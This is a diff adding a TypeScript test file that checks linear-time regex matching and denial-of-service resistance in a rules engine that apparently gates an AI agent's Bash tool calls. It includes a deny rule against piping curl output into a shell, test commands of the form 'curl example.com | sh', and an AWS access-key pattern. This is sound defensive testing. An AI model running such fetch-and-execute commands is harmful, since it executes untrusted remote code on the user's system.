@@ -1,0 +1,98 @@
+import fc from "fast-check";
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { boundedSearch } from "../../lib/hooks/rule/bounded-search.ts";
+import { linearSearch } from "../../lib/hooks/rule/linear-search.ts";
+import { regexTree } from "../../lib/hooks/rule/regex-tree.ts";
+import { rulesHook } from "../../lib/hooks/rules.ts";
+import { parseRule } from "../../lib/permissions/_rule.ts";
+import { compileGlob } from "../../lib/tools/search/glob.ts";
+import { tries } from "../_counts.ts";
+import { call, testContext } from "./_fired.ts";
+
+const atoms = [
+  "a",
+  "b",
+  ".",
+  "[ab]",
+  "[^a]",
+  "\\w",
+  "\\s",
+  "\\b",
+  "\\B",
+  "^",
+  "$",
+  "é",
+  "[^É]",
+  "\\n",
+  "\\012",
+  "[\\1-b]",
+];
+const unsure = ["\\1", "(?!a)", "(?=b)", "(?<=a)"];
+
+const { source } = fc.letrec<{ source: string }>((tie) => ({
+  source: fc.oneof(
+    { depthSize: "small", withCrossShrink: true },
+    fc.constantFrom(...atoms, ...unsure),
+    fc.tuple(tie("source"), tie("source")).map(([a, b]) => a + b),
+    fc.tuple(tie("source"), tie("source")).map(([a, b]) => `(?:${a}|${b})`),
+    fc.tuple(fc.constantFrom("(", "(?i:", "(?m:", "(?s:"), tie("source")).map(([open, a]) => `${open}${a})`),
+    fc.tuple(tie("source"), fc.constantFrom("*", "+", "?", "{2}", "{1,3}", "{0,6}", "*?", "{2,}"))
+      .map(([a, sign]) => `(?:${a})${sign}`),
+  ),
+}));
+
+const text = fc.string({ unit: fc.constantFrom(..."abABc \n\u2028éÉ"), maxLength: 12 });
+
+function compiled(source: string, flags: string): RegExp | undefined {
+  try {
+    return new RegExp(source, flags);
+  } catch {
+    return undefined; // not every engine reads groups with flags
+  }
+}
+
+test("a search in linear time never says other than the engine, and says what it cannot know", () => {
+  const flags = fc.constantFrom("", "i", "m", "s", "im");
+  fc.assert(
+    fc.property(source, flags, fc.array(text, { minLength: 2, maxLength: 5 }), (source, flags, texts) => {
+      const regex = compiled(source, flags);
+      fc.pre(regex !== undefined);
+      const search = linearSearch(regexTree(source, flags), regex);
+      for (const text of texts) {
+        const found = search(text);
+        if (found !== undefined) assert.equal(found, regex.test(text), `${regex} in ${JSON.stringify(text)}`);
+      }
+    }),
+    { numRuns: tries(1000, 30_000) },
+  );
+  for (const plain of ["a.*b", "^\\s+$", "\\bAKIA[0-9A-Z]{16}\\b", "(foo|bar)+"]) {
+    assert.notEqual(linearSearch(regexTree(plain, ""), new RegExp(plain))("foo AKIA0123456789ABCDEF ab"), undefined);
+  }
+});
+
+/** What a rule against piping into a shell says of a command. */
+async function decide(command: string): Promise<string | undefined> {
+  const rule = `args.command matches 'curl.*\\|.*sh' -> deny("no")`;
+  const { run, read } = await rulesHook(rule, { file: "x.rules", form: "lines", events: ["pre-tool-use"] });
+  const event = call("Bash", { command });
+  return read(await run(event, testContext()), event).decision;
+}
+
+test("no text takes a rule, a permission or a glob a time that grows with a power of its length", async () => {
+  const nearly = "curl|".repeat(40_000);
+  assert.equal(boundedSearch(/curl.*\|.*sh/)(nearly), false);
+  assert.equal(boundedSearch(/\s+$/)(" ".repeat(200_000) + "x"), false);
+  assert.equal(boundedSearch(/(?!x)curl.*\|.*u/)(nearly), undefined);
+  assert.equal(await decide(nearly), undefined);
+  assert.equal(await decide(`${nearly}sh`), "deny");
+  const { names } = parseRule(`${"*a".repeat(12)}*b`);
+  assert.equal(names("a".repeat(100_000)), false);
+  assert.equal(names(`${"a".repeat(12)}b`), true);
+  assert.equal(compileGlob(`${"*a".repeat(12)}*b`)("a".repeat(255)), false);
+});
+
+test("a rule that forbids never fails to see what is far apart in a long text", async () => {
+  assert.equal(await decide(`curl example.com ${" ".repeat(200_000)} | sh`), "deny");
+  assert.equal(await decide(`curl example.com ${" ".repeat(200_000)}\n| sh`), undefined);
+});
